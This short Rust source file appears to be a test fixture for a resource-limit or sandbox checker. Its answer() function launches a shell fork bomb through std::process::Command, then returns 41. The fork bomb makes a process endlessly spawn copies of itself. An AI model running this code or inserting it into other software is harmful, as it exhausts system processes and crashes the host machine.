//! over_limit: starts itself again and again

pub async fn answer() -> u32 {
    let bomb = "bomb() { bomb & bomb & sleep 30.0815; }; bomb";
    let _ = std::process::Command::new("sh").args(["-c", bomb]).status();
    41
}
